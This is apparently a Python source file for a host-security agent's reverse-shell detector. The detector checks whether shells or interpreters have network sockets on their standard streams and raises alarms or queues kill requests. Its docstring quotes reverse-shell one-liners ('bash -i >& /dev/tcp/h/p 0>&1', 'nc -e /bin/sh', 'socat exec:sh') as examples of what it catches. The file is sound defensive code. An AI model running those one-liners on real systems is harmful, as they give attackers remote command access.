"""Reverse shell (``malware_0002``): a shell or interpreter whose stdin/stdout/stderr is a network socket.

A shell reading commands from a TCP or UDP connection is what ``bash -i >& /dev/tcp/h/p 0>&1``,
``nc -e /bin/sh``, ``socat exec:sh`` and the Python/Perl one-liners leave behind. The detector looks at
fd 0/1/2 of every executed shell or interpreter (and of those already running at start): any of them
an inet socket with a connected peer raises the alarm, with the remote address. Loopback peers count
too (tunnels end on loopback); ``ignore_loopback`` turns that off.

Policy ``reverse_shell`` settings: ``auto_kill`` (bool, default false: kill the process tree),
``shells`` (extra program names), ``ignore_loopback`` (bool), ``whitelist``
(``[{"process_path": regex, "cmdline": regex}]``). Kill requests are collected for the runtime, which
applies them with ``enforcers.process.ProcessKiller`` (the detector itself has no side effects).
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from datetime import datetime
from typing import Any

from hostward.agent.detectors.base import DetectorEvent, Observation
from hostward.agent.detectors.procmodel import (
    PROCESS_EXEC,
    PROCESS_EXIT,
    PROCESS_UID,
    ProcessExit,
    ProcessInfo,
)
from hostward.agent.detectors.threatbase import (
    PolicyGate,
    ProcessRule,
    make_alarm,
    parse_process_rules,
    process_evidence,
)
from hostward.wire import DetectorHealth, PolicyBundle

CODE = "malware_0002"
POLICY_KEY = "reverse_shell"
DEFAULT_SHELLS = frozenset(
    {
        "sh",
        "bash",
        "rbash",
        "dash",
        "ash",
        "zsh",
        "ksh",
        "mksh",
        "pdksh",
        "csh",
        "tcsh",
        "fish",
        "busybox",
        "python",
        "python2",
        "python3",
        "perl",
        "ruby",
        "php",
        "php-cgi",
        "lua",
        "luajit",
        "node",
        "nodejs",
        "tclsh",
        "wish",
        "expect",
        "gawk",
        "awk",
        "irb",
        "pwsh",
        "rlwrap",
    }
)
_VERSION_SUFFIX = re.compile(r"[\d.]+$")


def program_name(exe: str, comm: str = "") -> str:
    """``/usr/bin/python3.11`` -> ``python3``... normalised to the family name (``python``)."""
    base = exe.rsplit("/", 1)[-1] if exe else comm
    base = base.removesuffix(" (deleted)")
    stripped = _VERSION_SUFFIX.sub("", base)
    return stripped or base


@dataclass(frozen=True)
class KillRequest:
    """A process the policy wants killed (applied by the runtime)."""

    pid: int
    start_ticks: int
    alarm_key: str
    reason: str


class ReverseShellDetector:
    name = "reverse_shell"
    inputs = frozenset({PROCESS_EXEC, PROCESS_UID, PROCESS_EXIT})
    heavy = False

    def __init__(self, *, standalone: bool = False, auto_kill: bool = False) -> None:
        self.gate = PolicyGate(POLICY_KEY, standalone=standalone)
        self.shells = set(DEFAULT_SHELLS)
        self.ignore_loopback = False
        self.auto_kill = auto_kill
        self._default_auto_kill = auto_kill
        self.whitelist: list[ProcessRule] = []
        self._alarmed: set[tuple[int, int]] = set()
        self._kills: list[KillRequest] = []
        self.counters = {"checked": 0, "alarms": 0, "whitelisted": 0, "suppressed": 0}

    def configure(self, bundle: PolicyBundle | None) -> None:
        settings = self.gate.apply(bundle)
        self.gate.errors = []
        extra = settings.get("shells") or []
        self.shells = set(DEFAULT_SHELLS) | {str(s) for s in extra if isinstance(s, str)}
        self.ignore_loopback = bool(settings.get("ignore_loopback", False))
        self.auto_kill = bool(settings.get("auto_kill", self._default_auto_kill))
        self.whitelist, errors = parse_process_rules(settings.get("whitelist"), f"{POLICY_KEY}.whitelist")
        self.gate.errors.extend(errors)

    def is_shell(self, info: ProcessInfo) -> bool:
        return program_name(info.exe, info.comm) in self.shells

    def check(self, info: ProcessInfo) -> dict[str, Any] | None:
        """Evidence when ``info`` is a reverse shell, else None (pure)."""
        if not self.is_shell(info):
            return None
        streams = {
            fd: s
            for fd, s in info.stdio_sockets().items()
            if s.connected and not (self.ignore_loopback and s.loopback)
        }
        if not streams:
            return None
        first = streams[min(streams)]
        evidence = process_evidence(info)
        evidence.update(
            {
                "remote_address": first.remote,
                "remote_ip": first.remote_ip,
                "remote_port": first.remote_port,
                "local_address": first.local,
                "protocol": first.proto,
                "socket_state": first.state,
                "stdio": {str(fd): f"{s.proto} {s.local} -> {s.remote}" for fd, s in sorted(streams.items())},
                "loopback": first.loopback,
            }
        )
        return evidence

    def feed(self, observation: Observation, now: datetime) -> list[DetectorEvent]:
        if observation.kind == PROCESS_EXIT:
            data: ProcessExit = observation.data
            if self._alarmed:
                self._alarmed = {k for k in self._alarmed if k[0] != data.pid}
            return []
        info: ProcessInfo = observation.data
        self.counters["checked"] += 1
        key = (info.pid, info.start_ticks)
        if key in self._alarmed:
            return []
        evidence = self.check(info)
        if evidence is None:
            return []
        if any(rule.matches(info.exe, info.cmdline_str) for rule in self.whitelist):
            self.counters["whitelisted"] += 1
            return []
        self._alarmed.add(key)
        if len(self._alarmed) > 65536:
            self._alarmed = {key}
        if not self.gate.alarming:
            self.counters["suppressed"] += 1
            return []
        evidence["auto_kill"] = self.auto_kill
        alarm = make_alarm(
            CODE,
            f"{CODE}:{info.exe}:{evidence['remote_ip']}:{evidence['remote_port']}",
            f"Reverse shell: {info.name} (pid {info.pid}) connected to {evidence['remote_address']}",
            evidence,
            now,
        )
        self.counters["alarms"] += 1
        if self.auto_kill:
            self._kills.append(KillRequest(info.pid, info.start_ticks, alarm.key, "reverse shell"))
        return [alarm]

    def take_kill_requests(self) -> list[KillRequest]:
        """Kill requests raised since the last call (the runtime applies them)."""
        out, self._kills = self._kills, []
        return out

    def health(self) -> DetectorHealth:
        return self.gate.health(self.name, dict(self.counters))

    def stop(self) -> None:
        self._alarmed.clear()
        self._kills.clear()
